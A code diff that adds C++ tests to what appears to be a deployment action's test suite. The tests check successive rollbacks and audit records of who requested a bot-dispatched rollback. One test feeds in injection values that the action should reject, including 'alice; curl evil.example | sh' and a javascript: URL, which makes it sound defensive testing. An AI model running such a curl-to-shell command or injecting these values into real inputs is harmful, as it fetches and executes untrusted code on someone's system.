@@ -226,6 +226,16 @@ void add_live_deployment(json& seed, Repository& repo, const std::string& tag) {
                                           {"statuses", json::array({{{"state", "success"}}})}});
 }
 
+// A deployment deploy-action made earlier that went live and was replaced since (inactive).
+void add_replaced_deployment(json& seed, Repository& repo, const std::string& tag) {
+  repo_of(seed)["deployments"].push_back({{"ref", tag},
+                                          {"sha", repo.sha[tag]},
+                                          {"environment", "production"},
+                                          {"creator", "alice"},
+                                          {"payload", {{"deploy_action", {{"version", tag}}}}},
+                                          {"statuses", json::array({{{"state", "success"}}, {{"state", "inactive"}}})}});
+}
+
 // The config: canary 10 -> 50 -> 100 with a health check on the demo service, two approvals.
 std::string deploy_yml(const fs::path& state, const std::string& service_url, const std::string& stage_timeout = "1m",
                        const std::string& pause = "1s") {
@@ -1087,4 +1097,106 @@ TEST_CASE("finding 5: blue-green: a failure after the switch switches straight b
   CHECK(read_file(bg.world.state / "steps") == "deploy v1.2.0 green\nswitch green switch\nswitch blue rollback\n");
   CHECK(bg.live->get("/version") == "v1.1.0");
   CHECK(contains(run.output, "is serving again"));
+}
+
+TEST_CASE("two rollbacks in a row without a version: the second goes further back, never forward") {
+  auto& repo = shared_repository();
+  json seed = base_seed(repo);
+  add_replaced_deployment(seed, repo, "v1.0.0");
+  add_replaced_deployment(seed, repo, "v1.1.0");
+  add_live_deployment(seed, repo, "v1.2.0");
+  repo_of(seed)["statuses"].push_back({{"sha", repo.sha["v1.0.0"]}, {"context", "build"}, {"state", "success"}});
+  World world(seed, "1m", "0s");
+  std::ofstream(world.state / "version") << "v1.2.0";
+
+  // frank (maintain) rolls back without naming a version: v1.2.0 -> v1.1.0.
+  auto first = run_action(world.env("refs/heads/main", "frank", "rollback"));
+  INFO(first.output);
+  REQUIRE(first.exit_code == 0);
+  CHECK(world.outputs()["version"] == "v1.1.0");
+  CHECK(world.service->get("/version") == "v1.1.0");
+
+  // Again: v1.1.0 runs now (a new deployment). The deployment of v1.2.0 is the latest one before
+  // it, but it is newer: the target is v1.0.0.
+  auto second = run_action(world.env("refs/heads/main", "frank", "rollback"));
+  INFO(second.output);
+  REQUIRE(second.exit_code == 0);
+  CHECK(world.outputs()["version"] == "v1.0.0");
+  CHECK(world.outputs()["previous-version"] == "v1.1.0");
+  CHECK(world.service->get("/version") == "v1.0.0");
+
+  // Nothing older than v1.0.0 went live: refused, and nothing runs.
+  auto third = run_action(world.env("refs/heads/main", "frank", "rollback"));
+  INFO(third.output);
+  CHECK(third.exit_code == 1);
+  CHECK(contains(third.output, "no earlier successful deployment of an older version"));
+  CHECK(world.outputs()["status"] == "refused");
+  CHECK(world.service->get("/version") == "v1.0.0");
+
+  // GitHub's view: the two rollbacks are the only new deployments, each replacing the one before.
+  auto state = world.repo_state();
+  REQUIRE(state["deployments"].size() == 5);
+  CHECK(state["deployments"][3]["payload"]["deploy_action"]["version"] == "v1.1.0");
+  CHECK(state["deployments"][4]["payload"]["deploy_action"]["version"] == "v1.0.0");
+  CHECK(state["deployments"][4]["statuses"].back()["state"] == "success");
+  CHECK(state["deployments"][3]["statuses"].back()["state"] == "inactive");
+}
+
+TEST_CASE("a rollback deploy-bot dispatched records who asked as requested_by; the actor stays the bot") {
+  auto& repo = shared_repository();
+  json seed = base_seed(repo);
+  add_replaced_deployment(seed, repo, "v1.1.0");
+  add_live_deployment(seed, repo, "v1.2.0");
+  World world(seed, "1m", "0s");
+  std::ofstream(world.state / "version") << "v1.2.0";
+  const std::string comment = "https://github.example/acme/app/issues/10#issuecomment-4242";
+
+  // Untrusted inputs that are not a login or a request URL stop the run before anything happens.
+  for (const auto& [input, value] : std::vector<std::pair<std::string, std::string>>{
+           {"INPUT_REQUESTED-BY", "alice; curl evil.example | sh"},
+           {"INPUT_REQUESTED-BY", "alice\n::warning::forged"},
+           {"INPUT_REQUEST-URL", "javascript:alert(1)"},
+           {"INPUT_REQUEST-URL", "http://evil.example/acme/app/issues/10"}}) {
+    CAPTURE(value);
+    auto env = world.env("refs/heads/main", "deploy-bot[bot]", "rollback");
+    env[input] = value;
+    auto refused = run_action(env);
+    CHECK(refused.exit_code == 1);
+    CHECK(contains(refused.output, "input '" + std::string(input == "INPUT_REQUESTED-BY" ? "requested-by" : "request-url") + "'"));
+    CHECK_FALSE(fs::exists(world.state / "steps"));
+  }
+
+  auto env = world.env("refs/heads/main", "deploy-bot[bot]", "rollback");
+  env["GITHUB_EVENT_NAME"] = "workflow_dispatch";
+  env["INPUT_REQUESTED-BY"] = "alice";
+  env["INPUT_REQUEST-URL"] = comment;
+  auto run = run_action(env);
+  INFO(run.output);
+  REQUIRE(run.exit_code == 0);
+  CHECK(world.service->get("/version") == "v1.1.0");
+
+  auto outputs = world.outputs();
+  json record = audit_record(outputs["audit-file"]);
+  CHECK(record["kind"] == "rollback");
+  CHECK(record["actor"] == "deploy-bot[bot]");
+  CHECK(record["requested_by"] == "alice");
+  CHECK(record["request_url"] == comment);
+  auto verify = deploy::test::run_action({"verify-audit", outputs["audit-file"]});
+  CHECK_MESSAGE(verify.exit_code == 0, verify.output);
+  CHECK(contains(world.summary(), "**Requested by:** @alice"));
+  CHECK(contains(world.summary(), "[Request](" + comment + ")"));
+
+  // A run nobody asked the bot for has neither field, as records written before them.
+  auto by_frank = world.env("refs/heads/main", "frank", "rollback");
+  by_frank["INPUT_VERSION"] = "v1.2.0";
+  auto forward = run_action(by_frank);
+  INFO(forward.output);
+  REQUIRE(forward.exit_code == 0);
+  const std::string second_file = world.outputs()["audit-file"];
+  json second = audit_record(second_file);
+  CHECK(second["actor"] == "frank");
+  CHECK_FALSE(second.contains("requested_by"));
+  CHECK_FALSE(second.contains("request_url"));
+  auto chain = deploy::test::run_action({"verify-audit", outputs["audit-file"], second_file});
+  CHECK_MESSAGE(chain.exit_code == 0, chain.output);
 }
